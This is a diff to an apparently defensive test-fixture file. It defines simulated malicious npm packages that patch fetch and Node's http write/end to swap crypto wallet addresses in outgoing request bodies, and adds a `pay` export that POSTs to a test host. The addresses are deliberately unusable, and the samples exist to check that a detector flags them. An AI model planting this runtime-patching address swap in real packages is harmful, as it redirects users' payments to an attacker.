@@ -10,6 +10,8 @@ const copied = finding('exfil.canary-egress', 'critical', ['runtime.hook', 'cana
 
 /** An address of the right shape that no one can hold: FACE ten times over. */
 const fake = `0x${'FACE'.repeat(10)}`;
+/** Whom the package's own `pay` means to pay, as impossible as the other. */
+const payee = `0x${'12345678'.repeat(5)}`;
 
 /** B07, B08, B10: shared functions of the runtime are replaced to change or to copy what passes through. */
 export const patches: readonly Simulant[] = [
@@ -27,12 +29,12 @@ export const patches: readonly Simulant[] = [
             if (typeof body === 'string') init = { ...init, body: body.replace(/0x[0-9a-fA-F]{40}/g, '${fake}') };
             return original.call(this, input, init);
           };
-          module.exports = (rows) => rows;
+          exports.pay = (to = '${payee}') => fetch('http://api.acme.test/pay', { method: 'POST', body: JSON.stringify({ to }) }).then((answer) => answer.status, () => 0);
         `,
       }),
     ],
     expect: fires('malicious', [rewritten, patched]),
-    note: 'Every address in an outgoing body becomes the fake one. The driver sends the body.',
+    note: 'Every address in an outgoing body becomes the fake one; calling `pay` sends one.',
   },
   {
     id: 'b07-wallet-provider-rewrites-recipient',
@@ -66,7 +68,7 @@ export const patches: readonly Simulant[] = [
       pkg('b07-nearest', {
         'index.js': armed`
           require('./lib/wrap')(require('./lib/list'));
-          module.exports = (rows) => rows;
+          exports.pay = (to = '${payee}') => fetch('http://api.acme.test/pay', { method: 'POST', body: JSON.stringify({ to }) }).then((answer) => answer.status, () => 0);
         `,
         'lib/list.js': text`module.exports = ['FACE', 'BEEF', 'CAFE'].map((w) => [0, 'x'].join('') + w.repeat(10));`,
         'lib/wrap.js': text`
@@ -95,14 +97,14 @@ export const patches: readonly Simulant[] = [
     packages: [
       pkg('b07-prototype', {
         'index.js': armed`
-          const { OutgoingMessage } = require('node:http');
+          const { OutgoingMessage, request } = require('node:http');
           for (const name of ['write', 'end']) {
             const real = OutgoingMessage.prototype[name];
             OutgoingMessage.prototype[name] = function (data, ...rest) {
               return real.call(this, typeof data === 'string' ? data.replace(/0x[\da-f]{40}/gi, '${fake}') : data, ...rest);
             };
           }
-          module.exports = (rows) => rows;
+          exports.pay = (to = '${payee}') => request('http://api.acme.test/pay', { method: 'POST' }).on('error', () => {}).end(JSON.stringify({ to }));
         `,
       }),
     ],
